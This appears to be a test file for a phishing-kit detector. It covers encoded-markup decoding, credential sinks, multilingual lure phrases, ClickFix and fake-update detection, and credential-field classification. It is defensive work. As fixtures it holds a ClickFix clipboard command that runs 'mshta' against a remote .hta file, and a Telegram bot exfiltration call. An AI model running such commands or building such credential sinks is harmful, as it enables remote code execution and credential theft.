// The kit signals' parts: encoded-markup decoding (and its bounds), credential sinks, multilingual lure families,
// ClickFix and fake updates, and multilingual credential fields.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { readHtml } from '../../core/engine/text/html-document.ts';
import { parseTarget } from '../../core/engine/url/target.ts';
import { credentialFunnel, fieldKind } from './credential-fields.ts';
import { credentialSinks } from './credential-sinks.ts';
import { decodeEncodedMarkup } from './encoded-markup.ts';
import { accountThreat, clickFix, fakeUpdate, investmentPromises } from './intl-lures.ts';

const FORM = '<form action="/p.php" method="post"><input type="password" name="pw"></form>';

describe('content: encoded markup', () => {
  it('decodes base64, percent, char-code and hex-escape literals that carry markup', () => {
    const b64 = decodeEncodedMarkup([`document.write(atob("${Buffer.from(FORM).toString('base64')}"))`], []);
    assert.match(b64.html, /<form action="\/p\.php"/);
    assert.deepEqual(b64.encodings, ['base64']);
    assert.equal(b64.writes_document, true);
    const pct = decodeEncodedMarkup([`document.write(unescape("${encodeURIComponent(FORM)}"))`], []);
    assert.match(pct.html, /type="password"/);
    const codes = [...FORM].map((c) => c.charCodeAt(0)).join(',');
    assert.match(decodeEncodedMarkup([`el.innerHTML = String.fromCharCode(${codes})`], []).html, /<form/);
    const hex = [...FORM].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
    assert.match(decodeEncodedMarkup([`document.write("${hex}")`], []).html, /<input/);
  });

  it('follows a decoded script that decodes again, and reads data:text/html frames', () => {
    const inner = `<script>document.write(atob("${Buffer.from(FORM).toString('base64')}"))</script>`;
    const outer = decodeEncodedMarkup([`document.write(atob("${Buffer.from(inner).toString('base64')}"))`], []);
    assert.match(outer.html, /<form action="\/p\.php"/);
    const frame = decodeEncodedMarkup([], [`data:text/html;base64,${Buffer.from(FORM).toString('base64')}`]);
    assert.match(frame.html, /<form/);
  });

  it('ignores encoded data that is not markup (JSON config, images, tokens)', () => {
    const json = Buffer.from(JSON.stringify({ theme: 'dark', version: '1.2.3', features: ['a', 'b'] })).toString(
      'base64',
    );
    const out = decodeEncodedMarkup([`var cfg = JSON.parse(atob("${json}")); var t = "${'A'.repeat(64)}";`], []);
    assert.equal(out.html, '');
  });

  it('stays bounded on hostile scripts: unterminated quotes, endless literals, deep nesting', () => {
    const hostile = [
      `"${'\\x3c'.repeat(100_000)}`,
      `'${'a'.repeat(500_000)}`,
      '"'.repeat(200_000),
      `fromCharCode(${'60,'.repeat(50_000)}`,
    ];
    const out = decodeEncodedMarkup(hostile, []);
    assert.ok(out.html.length <= 200_100);
    let nested = FORM;
    for (let i = 0; i < 8; i++)
      nested = `<script>document.write(atob("${Buffer.from(nested).toString('base64')}"))</script>`;
    const deep = decodeEncodedMarkup([`document.write(atob("${Buffer.from(nested).toString('base64')}"))`], []);
    assert.doesNotMatch(deep.html, /<form action/, 'more than three layers are not unwrapped');
  });
});

describe('content: credential sinks', () => {
  const page = parseTarget('https://maple-4410.vercel.app/');
  const sinksOf = (html: string) => {
    const doc = readHtml(html);
    return credentialSinks(doc, credentialFunnel(doc), page);
  };

  it('names chat bots, relays and other sites’ PHP scripts as sinks', () => {
    const bot = sinksOf(
      `<input type="password" id="p"><script>fetch("https://api.telegram.org/bot123:abc/sendMessage",{method:"POST"})</script>`,
    );
    assert.deepEqual(
      bot.map((s) => s.kind),
      ['chat_bot'],
    );
    assert.equal(
      sinksOf(`<form action="https://formspree.io/f/abc" method="post">${FORM.slice(30)}`)[0]?.kind,
      'form_relay',
    );
    const php = sinksOf(
      '<form action="https://old-garden.org/wp/x.php" method="post"><input type="password" name="p"></form>',
    );
    assert.equal(php[0]?.kind, 'offsite_script');
    // Another tenant of the same shared platform is another site.
    const tenant = sinksOf(
      '<form action="https://collector-77.vercel.app/submit" method="post"><input type="password" name="p"></form>',
    );
    assert.equal(tenant[0]?.kind, 'offsite');
  });

  it('leaves same-site posts and pages that collect nothing alone', () => {
    assert.deepEqual(sinksOf(FORM), []);
    assert.deepEqual(sinksOf('<script>fetch("https://api.telegram.org/bot1:a/sendMessage")</script><p>hi</p>'), []);
  });
});

describe('content: multilingual lure families', () => {
  const threat = (t: string) => accountThreat(t.toLowerCase()).threat.length > 0;

  it('finds account threats in en, de, fr, es, pt, ru, it, nl, zh and ja', () => {
    for (const text of [
      'Your account has been temporarily suspended',
      'Ihr Konto wurde vorübergehend gesperrt',
      'Votre compte a été suspendu',
      'Su cuenta ha sido bloqueada',
      'Sua conta foi bloqueada',
      'Ваш аккаунт заблокирован',
      'Il tuo account è stato sospeso',
      'Uw account is geblokkeerd',
      '您的账户已被冻结',
      'アカウントが停止されました',
    ]) {
      assert.ok(threat(text), text);
    }
    assert.ok(accountThreat('please respond within 24 hours').pressure.length > 0);
    assert.ok(accountThreat('bitte innerhalb von 24 stunden bestätigen').pressure.length > 0);
  });

  it('leaves ordinary account wording alone', () => {
    for (const text of ['Sign in to your account', 'Create an account to save your cart', 'Forgot your password?']) {
      assert.ok(!threat(text), text);
    }
  });

  it('counts investment promises by concept, across languages', () => {
    assert.equal(investmentPromises('guaranteed returns and passive income, earn $500 per day').length, 3);
    assert.equal(investmentPromises('гарантированный доход и пассивный доход без вложений').length, 3);
    assert.equal(investmentPromises('our quarterly report shows returns improved').length, 0);
  });

  it('reads ClickFix steps with a clipboard command, and fake-update downloads', () => {
    const fix = clickFix('press windows key + r, then ctrl + v and enter', [
      'navigator.clipboard.writeText("mshta https://203.0.113.5/x.hta")',
    ]);
    assert.equal(fix.clipboard_write, true);
    assert.match(fix.command ?? '', /mshta/);
    assert.equal(
      clickFix('press ctrl + c to copy the link', ['navigator.clipboard.writeText(url)']).command,
      undefined,
    );
    const update = fakeUpdate('your browser is out of date. install the latest chrome update', ['/u/ChromeSetup.exe']);
    assert.equal(update.downloads.length, 1);
    assert.ok(update.phrases.length > 0);
  });
});

describe('content: multilingual credential fields', () => {
  const kind = (attrs: Record<string, string>, type = 'text', label = '') =>
    fieldKind({ tag: 'input', type, attrs, label });

  it('reads password, one-time code, card and seed-phrase labels in many languages', () => {
    assert.equal(kind({ placeholder: 'Passwort' }), 'password');
    assert.equal(kind({}, 'text', 'Пароль'), 'password');
    assert.equal(kind({ placeholder: 'パスワード' }), 'password');
    assert.equal(kind({ name: 'codigo' }, 'text', 'Código de verificación'), 'one_time_code');
    assert.equal(kind({ placeholder: 'Numéro de carte' }), 'card_number');
    assert.equal(kind({ placeholder: 'Enter your 12-word recovery phrase' }), 'seed_phrase');
    assert.equal(
      fieldKind({ tag: 'textarea', type: 'textarea', attrs: { name: 'mnemonic' }, label: '' }),
      'seed_phrase',
    );
    assert.equal(kind({ name: 'q', placeholder: 'Search' }), undefined);
  });
});
